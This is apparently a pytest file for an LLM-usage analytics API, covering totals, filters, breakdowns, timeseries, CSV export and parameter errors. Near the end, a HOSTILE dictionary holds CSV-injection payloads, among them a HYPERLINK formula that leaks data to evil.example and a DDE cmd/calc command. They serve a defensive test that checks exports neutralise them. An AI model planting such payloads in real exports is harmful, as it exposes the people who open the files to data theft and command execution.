"""The analytics API over real HTTP (uvicorn), on SQLite and PostgreSQL: exact totals for
records the test wrote, filters, breakdowns, CSV, and 422s that name the parameter."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import urllib.error
import urllib.request
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import pytest
from tests.gateway.running import RunningGateway

from tokenomy.api.app import AnalyticsApi, _csv
from tokenomy.api.params import split_escaped
from tokenomy.pricing import PriceCatalog
from tokenomy.record import CallRecord, CostSource, Status, TokenUsage, ToolUse
from tokenomy.store import Database, write_records

CATALOG = PriceCatalog.load(None)
T0 = 1_793_491_200_000  # 2026-11-01T00:00:00Z
HOUR = 3_600_000


def _call(i: int, **kw: Any) -> CallRecord:
    fields: dict[str, Any] = {
        "provider": "anthropic",
        "request_model": "claude-sonnet-4-5",
        "response_model": "claude-sonnet-4-5",
        "project": "web",
        "user": "ann",
        "duration_ms": 100 * (i + 1),
        "cost_nanos": 1_000 * (i + 1),
        "cost_source": CostSource.COMPUTED,
    }
    fields.update(kw)
    usage = fields.pop("usage", TokenUsage(input_tokens=10 * (i + 1), output_tokens=i + 1))
    return CallRecord(
        source="sdk", dedupe_key=f"c{i}", started_at_ms=T0 + i * HOUR, usage=usage, **fields
    )


CALLS = [
    _call(0),
    _call(1),
    _call(2, project="api", user="bob", tools=[ToolUse("Bash", "u1")]),
    _call(3, project="api", status=Status.ERROR, cost_nanos=None, cost_source=CostSource.UNKNOWN),
    _call(
        4,
        provider="openai",
        request_model="gpt-4o",
        response_model="gpt-4o",
        project=None,
        usage=TokenUsage(input_tokens=100, cache_read_tokens=1000, output_tokens=5),
    ),
    _call(5, duration_ms=None),
]


@pytest.fixture
def api(db: Database) -> Iterator[RunningGateway]:
    write_records(db, CALLS)
    write_records(db, [CallRecord("runner", "r1", T0, TokenUsage(input_tokens=999))])
    with RunningGateway({}, None, api=AnalyticsApi(db, CATALOG)) as gw:
        yield gw


def _get(gw: RunningGateway, path: str) -> tuple[int, Any, str]:
    try:
        with urllib.request.urlopen(gw.url + path, timeout=10) as resp:
            body, status, ctype = resp.read(), resp.status, resp.headers["content-type"]
    except urllib.error.HTTPError as err:
        with err:
            body, status, ctype = err.read(), err.code, err.headers["content-type"]
    value = json.loads(body) if ctype.startswith("application/json") else body.decode()
    return status, value, ctype


def test_summary_totals_are_exact(api: RunningGateway) -> None:
    status, s, _ = _get(api, "/api/v1/summary")
    assert status == 200
    assert s["calls"] == 6  # the runner record is left out: its calls are counted elsewhere
    assert s["failed_calls"] == 1
    assert s["error_rate"] == round(1 / 6, 6)
    assert s["unknown_cost_calls"] == 1
    assert s["cost_usd"] == (1_000 + 2_000 + 3_000 + 5_000 + 6_000) / 1e9
    assert s["tokens"]["input_tokens"] == 10 + 20 + 30 + 40 + 100 + 60
    assert s["tokens"]["cache_read_tokens"] == 1000
    assert s["tokens"]["total"] == sum(c.usage.total for c in CALLS)
    # durations 100..500 (the sixth call has none), read from the rollups' histogram:
    # the median's rank 2.5 falls half-way into the bucket [300, 400) (two calls below
    # 300, three below 400), p95's rank 4.75 three quarters into [500, 650).
    assert s["latency_ms"] == {"calls_timed": 5, "mean": 300, "p50": 350, "p95": 612}
    price = CATALOG.resolve("openai", "gpt-4o", T0 + 4 * HOUR)
    assert price is not None
    saved = 1000 * (price.input - price.cache_read) // 1000
    assert s["cache"]["prompt_cache_savings_usd"] == saved / 1e9
    assert s["cache"]["response_cache_hits"] == 0


def test_filters_and_ranges_narrow_the_summary(api: RunningGateway) -> None:
    _, s, _ = _get(api, "/api/v1/summary?project=api&status=ok")
    assert s["calls"] == 1
    _, s, _ = _get(api, "/api/v1/summary?project=web,api&model=claude-sonnet-4-5")
    assert s["calls"] == 5
    _, s, _ = _get(api, "/api/v1/summary?since=2026-11-01T01:00:00Z&until=2026-11-01T03:00:00Z")
    assert s["calls"] == 2  # 01:00 and 02:00; until is exclusive for a time
    _, s, _ = _get(api, "/api/v1/summary?until=2026-10-31&timezone=America/Los_Angeles")
    # Oct 31 in Los Angeles ends at 07:00Z on Nov 1: calls at 00:00..06:00Z (a date is inclusive)
    assert s["calls"] == 6
    # The basic form of a date is the same day (it was an exclusive instant: no calls).
    for since, until in (("2026-11-01", "2026-11-01"), ("20261101", "20261101")):
        _, s, _ = _get(api, f"/api/v1/summary?since={since}&until={until}")
        assert s["calls"] == 6
    _, s, _ = _get(api, "/api/v1/summary?tool=Bash")
    assert s["calls"] == 1
    _, s, _ = _get(api, "/api/v1/summary?source=runner")
    assert (s["calls"], s["tokens"]["input_tokens"]) == (1, 999)


def test_breakdown_sorts_limits_and_sums_the_rest(api: RunningGateway) -> None:
    _, b, _ = _get(api, "/api/v1/breakdown?by=project&sort=calls")
    assert [(r["key"], r["calls"]) for r in b["rows"]] == [("web", 3), ("api", 2), (None, 1)]
    _, b, _ = _get(api, "/api/v1/breakdown?by=model&sort=cost&limit=1")
    assert [(r["key"], r["calls"]) for r in b["rows"]] == [("claude-sonnet-4-5", 5)]
    assert (b["other"]["values"], b["other"]["calls"]) == (1, 1)
    _, b, _ = _get(api, "/api/v1/breakdown?by=user&sort=key&order=asc")
    assert [r["key"] for r in b["rows"]] == ["ann", "bob"]
    _, b, _ = _get(api, "/api/v1/breakdown?by=tool")
    assert [(r["key"], r["calls"]) for r in b["rows"]] == [("Bash", 1)]


def test_a_breakdown_exports_as_csv(api: RunningGateway) -> None:
    status, text, ctype = _get(api, "/api/v1/breakdown?by=project&sort=calls&format=csv")
    assert (status, ctype) == (200, "text/csv; charset=utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(r["key"], r["calls"], r["tokens.input_tokens"]) for r in rows] == [
        ("web", "3", "90"),
        ("api", "2", "70"),
        ("", "1", "100"),
    ]


@pytest.mark.parametrize(
    ("query", "param", "words"),
    [
        ("/api/v1/breakdown?by=colour", "by", "by must be one of: project, model"),
        ("/api/v1/breakdown?limit=0", "limit", "limit must be from 1 to 1000"),
        ("/api/v1/breakdown?sort=price", "sort", "sort must be one of: cost, calls"),
        ("/api/v1/summary?since=last+week", "since", "since must be an ISO 8601 date"),
        # A week as `until` would be its Monday's midnight, leaving the week out.
        ("/api/v1/summary?until=2026-W45", "until", "2026-11-01 or 20261101"),
        ("/api/v1/summary?timezone=Mars/Base", "timezone", "IANA zone"),
        ("/api/v1/summary?since=2026-11-02&until=2026-11-01", "until", "until must be after since"),
        ("/api/v1/summary?projet=web", "projet", "unknown parameter projet"),
        ("/api/v1/summary?format=xml", "format", "format must be json or csv"),
        # A folder of the zone database is not a zone (it used to be a 500).
        ("/api/v1/calls?timezone=America", "timezone", "IANA zone"),
        ("/api/v1/summary?status=failed", "status", "status must be one of: ok, error"),
        ("/api/v1/summary?format=csv", "format", "/api/v1/summary answers JSON only"),
        ("/api/v1/forecast?format=csv", "format", "answers JSON only"),
        # base64url of "99999999999999999999999:x": a number past int64 (was a 500).
        ("/api/v1/calls?cursor=OTk5OTk5OTk5OTk5OTk5OTk5OTk5OTk6eA", "cursor", "use next_cursor"),
        # PostgreSQL cannot compare text holding a NUL (it was a 500 there).
        ("/api/v1/calls?project=%00", "project", "NUL character"),
        ("/api/v1/calls?q=a%00b", "q", "NUL character"),
        ("/api/v1/timeseries?session=%00", "session", "NUL character"),
        ("/api/v1/calls/%00", "path", "NUL character"),
    ],
)
def test_bad_parameters_get_a_422_naming_them(
    api: RunningGateway, query: str, param: str, words: str
) -> None:
    status, body, _ = _get(api, query)
    assert status == 422
    assert body["error"]["param"] == param
    assert words in body["error"]["message"]


def test_dates_to_the_end_of_the_calendar_mean_no_end(api: RunningGateway) -> None:
    status, whole, _ = _get(api, "/api/v1/summary")
    assert status == 200
    for query in (
        "until=9999-12-31",
        "since=0001-01-01&until=9999-12-31",
        "until=9999-12-31T23:59:59%2B14:00",
    ):
        status, body, _ = _get(api, f"/api/v1/summary?{query}")
        assert (status, body["calls"]) == (200, whole["calls"]), query
    status, _, _ = _get(api, "/api/v1/forecast?until=9999-12-31")
    assert status == 200


def test_an_empty_timeseries_has_the_same_keys(api: RunningGateway) -> None:
    _, empty, _ = _get(api, "/api/v1/timeseries?project=nope&group_by=model")
    _, full, _ = _get(api, "/api/v1/timeseries?group_by=model")
    assert empty == {**full, "buckets": [], "series": []}


def test_unknown_endpoints_and_methods_answer_in_the_same_shape(api: RunningGateway) -> None:
    status, body, _ = _get(api, "/api/v1/nope")
    assert status == 404
    assert "openapi.json" in body["error"]["message"]
    req = urllib.request.Request(api.url + "/api/v1/summary", method="POST", data=b"{}")
    with pytest.raises(urllib.error.HTTPError) as err:
        urllib.request.urlopen(req, timeout=10)
    with err.value:
        assert err.value.code == 405


def test_openapi_lists_every_endpoint_and_parameter(api: RunningGateway) -> None:
    status, doc, _ = _get(api, "/api/v1/openapi.json")
    assert status == 200
    routes = AnalyticsApi(Database("sqlite://"), CATALOG).routes
    # live and gateway are answered by the gateway beside the API (they need its state).
    documented = {p for p in routes if p != "/openapi.json"} | {"/calls/{id}", "/live", "/gateway"}
    assert set(doc["paths"]) == {f"/api/v1{p}" for p in documented}
    names = {p["name"] for p in doc["paths"]["/api/v1/breakdown"]["get"]["parameters"]}
    assert {"since", "until", "timezone", "project", "tool", "by", "sort", "limit"} <= names


def test_timeseries_fills_every_local_bucket(api: RunningGateway) -> None:
    _, t, _ = _get(
        api, "/api/v1/timeseries?interval=hour&metric=calls&since=2026-11-01&until=2026-11-01"
    )
    assert len(t["buckets"]) == 24
    assert t["buckets"][0] == "2026-11-01T00:00:00+00:00"
    assert t["series"] == [{"key": "total", "values": [1] * 6 + [0] * 18}]
    _, t, _ = _get(api, "/api/v1/timeseries?interval=day&metric=cost&timezone=Asia/Kolkata")
    # +05:30: 00:00-05:00Z falls on Nov 1 local, from its 05:30 on
    assert t["buckets"] == ["2026-11-01T00:00:00+05:30"]
    assert t["series"][0]["values"] == [17_000 / 1e9]


def test_timeseries_buckets_follow_the_local_clock_west_of_utc(api: RunningGateway) -> None:
    # The calls (00:00-05:00Z on Nov 1) are the evening of Oct 31 in Los Angeles (PDT).
    _, t, _ = _get(api, "/api/v1/timeseries?interval=day&metric=calls&timezone=America/Los_Angeles")
    assert (t["buckets"], t["series"][0]["values"]) == (["2026-10-31T00:00:00-07:00"], [6])
    _, t, _ = _get(
        api,
        "/api/v1/timeseries?interval=hour&metric=calls&timezone=America/Los_Angeles"
        "&since=2026-10-31T17:00:00&until=2026-10-31T23:00:00",
    )
    assert t["buckets"][0] == "2026-10-31T17:00:00-07:00"
    assert t["series"][0]["values"] == [1, 1, 1, 1, 1, 1]


def test_timeseries_splits_by_a_dimension_with_top_and_other(api: RunningGateway) -> None:
    _, t, _ = _get(api, "/api/v1/timeseries?interval=hour&metric=calls&group_by=project&top=1")
    assert [(s["key"], s.get("rest")) for s in t["series"]] == [("web", None), ("other", True)]
    assert t["series"][0]["values"] == [1, 1, 0, 0, 0, 1]
    assert t["series"][1]["values"] == [0, 0, 1, 1, 1, 0]
    status, text, _ = _get(api, "/api/v1/timeseries?interval=hour&metric=calls&format=csv")
    assert status == 200
    assert text.splitlines()[:2] == ["bucket,total", "2026-11-01T00:00:00+00:00,1"]


def test_a_range_too_long_for_the_interval_is_refused_with_the_limit(api: RunningGateway) -> None:
    status, body, _ = _get(
        api, "/api/v1/timeseries?interval=minute&since=2026-11-01&until=2026-11-30"
    )
    assert status == 422
    assert body["error"]["param"] == "interval"
    assert "the limit is 5,000" in body["error"]["message"]
    status, body, _ = _get(api, "/api/v1/timeseries?group_by=colour")
    assert (status, body["error"]["param"]) == (422, "group_by")


def test_ranked_lists_answer_over_http_and_export_as_csv(api: RunningGateway) -> None:
    status, top, _ = _get(api, "/api/v1/top?what=projects&limit=2")
    assert status == 200
    # by cost: web $9e-6, no project $5e-6, api $3e-6 (and one unknown)
    assert [(r["key"], r["calls"]) for r in top["rows"]] == [("web", 3), (None, 1)]
    status, text, _ = _get(api, "/api/v1/top?what=projects&limit=1&format=csv")
    row = next(csv.DictReader(io.StringIO(text)))
    assert (row["key"], json.loads(row["evidence"])) == ("web", top["rows"][0]["evidence"])
    status, failures, _ = _get(api, "/api/v1/failures")
    assert (status, failures["total"]["failed_calls"]) == (200, 1)
    status, cache, _ = _get(api, "/api/v1/cache")
    assert (status, cache["summary"]["tokens"]["cache_read_tokens"]) == (200, 1000)
    status, body, _ = _get(api, "/api/v1/top?what=everything")
    assert (status, body["error"]["param"]) == (422, "what")
    assert "commands, sessions, projects, users, prompts" in body["error"]["message"]


@pytest.mark.parametrize(
    ("text", "values"),
    [
        ("a,b", ["a", "b"]),
        ("a\\,b", ["a,b"]),
        ("x\\\\,y", ["x\\", "y"]),
        ("C:\\path", ["C:\\path"]),  # a backslash before anything else is itself
        ("a,,b,", ["a", "", "b", ""]),
    ],
)
def test_filter_values_split_at_unescaped_commas(text: str, values: list[str]) -> None:
    assert split_escaped(text) == values


def test_a_real_value_named_other_is_kept_apart_from_the_rest(db: Database) -> None:
    """A project called "other" is a series of its own, never overwritten by the sum of the
    series past the top N; in CSV the remainder is the "(rest)" column or row."""
    calls = [
        _call(i, project=project, cost_nanos=1_000)
        for i, project in enumerate(["other"] * 5 + ["a"] * 4 + ["b"] * 3 + ["c"])
    ]
    write_records(db, [dataclasses.replace(c, started_at_ms=T0) for c in calls])
    with RunningGateway({}, None, api=AnalyticsApi(db, CATALOG)) as gw:
        query = "/api/v1/timeseries?interval=day&metric=calls&group_by=project&top=2"
        _, t, _ = _get(gw, query)
        _, text, _ = _get(gw, query + "&format=csv")
        _, b, _ = _get(gw, "/api/v1/breakdown?by=project&sort=calls&limit=2")
        _, b_csv, _ = _get(gw, "/api/v1/breakdown?by=project&sort=calls&limit=2&format=csv")
    assert [(s["key"], s.get("rest"), s["values"]) for s in t["series"]] == [
        ("other", None, [5]),
        ("a", None, [4]),
        ("other", True, [4]),
    ]
    assert text.splitlines() == ["bucket,other,a,(rest)", "2026-11-01T00:00:00+00:00,5,4,4"]
    assert [(r["key"], r["calls"]) for r in b["rows"]] == [("other", 5), ("a", 4)]
    assert b["other"]["calls"] == 4
    rows = list(csv.DictReader(io.StringIO(b_csv)))
    assert [(r["key"], r["calls"]) for r in rows] == [("other", "5"), ("a", "4"), ("(rest)", "4")]
    assert sum(int(r["calls"]) for r in rows) == 13  # the CSV adds up to the whole


def test_a_range_with_a_start_and_no_end_runs_to_today(api: RunningGateway) -> None:
    """A preset range ("last 30 days") sends only since: the chart must reach today, zeros
    where nothing happened, not stop at the last call as if it were today."""
    _, t, _ = _get(api, "/api/v1/timeseries?interval=day&metric=calls&since=2026-10-30")
    today = datetime.now(UTC).date().isoformat()
    assert t["buckets"][0].startswith("2026-10-30") and t["buckets"][-1].startswith(today)
    values = t["series"][0]["values"]
    assert values[:3] == [0, 0, 6] and set(values[3:]) <= {0}
    _, f, _ = _get(api, "/api/v1/failures?interval=day&since=2026-10-30")
    assert f["buckets"] == t["buckets"]


HOSTILE = {
    "project": '=HYPERLINK("https://evil.example/?leak="&A2,"Open")',
    "user": "@SUM(1+1)",
    "request_model": "+cmd|' /C calc'!A0",
    "response_model": "+cmd|' /C calc'!A0",
    "org": "-2+3",
    "session_id": "\tx",
    "api_key_id": "\r=1",
}


def test_csv_exports_never_start_a_text_cell_with_a_formula(db: Database) -> None:
    """Names come from gateway headers and logs: a cell starting with = + - @ tab or CR gets
    a leading ' so a spreadsheet shows it as text (OWASP CSV injection), column names too."""
    write_records(db, [_call(0, **HOSTILE)])
    with RunningGateway({}, None, api=AnalyticsApi(db, CATALOG)) as gw:
        _, calls_csv, _ = _get(gw, "/api/v1/calls?format=csv")
        exports = [
            _get(gw, f"/api/v1/breakdown?by={by}&format=csv")[1]
            for by in ("project", "user", "model", "org", "session", "key")
        ]
        _, series_csv, _ = _get(
            gw, "/api/v1/timeseries?interval=day&metric=calls&group_by=project&format=csv"
        )
    row = next(csv.DictReader(io.StringIO(calls_csv)))
    for field in ("project", "user", "request_model", "org"):
        assert row[field] == "'" + HOSTILE[field]
    keys = [next(csv.DictReader(io.StringIO(text)))["key"] for text in exports]
    assert keys == ["'" + HOSTILE[f] for f in ("project", "user", "request_model", "org")] + [
        "'\tx",
        "'\r=1",
    ]
    header = next(csv.reader(io.StringIO(series_csv)))
    assert header == ["bucket", "'" + HOSTILE["project"]]
    cells = [
        c
        for text in [calls_csv, series_csv, *exports]
        for r in csv.reader(io.StringIO(text))
        for c in r
    ]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


def test_csv_keeps_numbers_negative_ones_too() -> None:
    text = _csv([{"key": "-x", "delta_usd": -1.5, "calls": -2, "note": "ok"}]).decode()
    assert text.splitlines() == ["key,delta_usd,calls,note", "'-x,-1.5,-2,ok"]
